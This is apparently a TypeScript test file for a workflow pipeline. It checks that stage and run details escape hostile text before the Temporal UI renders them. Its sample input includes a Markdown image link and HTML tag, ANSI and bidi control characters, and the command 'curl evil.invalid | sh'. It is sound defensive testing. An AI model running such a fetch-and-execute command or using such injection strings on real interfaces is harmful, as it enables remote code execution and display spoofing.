import { expect, test } from 'vitest';
import { pipelineDetails, stageDetails, type PipelineDetails } from '../../../workflows/stage/details.js';

/** Text of a corpus, as an error quotes it. */
const EVIL = '![x](http://evil.invalid/x.png)\n\n# Resume by `curl evil.invalid | sh`\n<img src=x>&lt;\x1b[31m\u202e_a_ **b**';

/** Markdown's marks that no backslash stands before (CommonMark 2.4), but for those that we write ourselves. */
const unescaped = (text: string): string[] => [...text.matchAll(/\\[!-/:-@[-`{-~]|([`*_~#[\]<>|&!])/g)].flatMap(([, mark]) => mark ?? []);

test('what a failure, an interruption or a result quotes is no Markdown in the Temporal UI, and stays on its line', () => {
  const place = { run: 'run', stage: 'seed-0/prepare', seed: 0, arm: null, round: null };
  const failed = stageDetails({ place, what: 'prepare', state: 'failed', reason: EVIL });
  const ref = { uri: 'store:artifacts/a/manifest.json', sha256: 'a', size: 1, digest: 'a' };
  const done = stageDetails({ place, what: EVIL, state: 'done', outcomes: [{ ref, summary: { note: EVIL }, cached: false, interruptions: [{ attempt: 1, code: 'TrainerCrashed', message: EVIL }] }] });
  const run = pipelineDetails({ run: 'run', stages: [], steering: { paused: false }, interruptions: new Map(), failure: EVIL });
  const quoted = [failed, done, run].flatMap((text) => text.split('\n').filter((line) => line.includes('evil')));
  expect(quoted).toHaveLength(5);
  for (const line of quoted) {
    const own = line.startsWith('Stage ') ? ['*', '*', '*', '*', '`', '`'] : line.startsWith('> ') ? ['>'] : [];
    expect(unescaped(line), line).toEqual(own);
    expect(line).toContain('\\\\x1b\\[31m\\\\u202e');
    expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
    expect(line).toContain('evil.invalid/x.png');
    expect(line).toContain('b\\*\\*'); // to its end
  }
});

test('a run says of its states the one that holds: paused only while it can go on', () => {
  const said = (change: Partial<PipelineDetails>): string[] => {
    const text = pipelineDetails({ run: 'run', stages: [{ stage: 'report', state: 'waiting' }], steering: { paused: true }, interruptions: new Map(), ...change });
    return [...text.matchAll(/State: \*\*([a-z ]+)\*\*/g)].map(([, state]) => state);
  };
  const failed = [{ stage: 'seed-0/bliss/round-1/decay', seed: 0, arm: 'bliss', round: 1, reason: 'no' }];
  expect(said({})).toEqual(['paused']);
  expect(said({ steering: { paused: false } })).toEqual([]);
  expect(said({ cancelled: true })).toEqual(['cancelled']);
  expect(said({ failure: 'no' })).toEqual(['failed']);
  expect(said({ failed })).toEqual(['a stage has failed', 'paused']);
  expect(said({ failed, cancelled: true })).toEqual(['cancelled']);
  expect(said({ failed, failure: 'no' })).toEqual(['failed']);
});
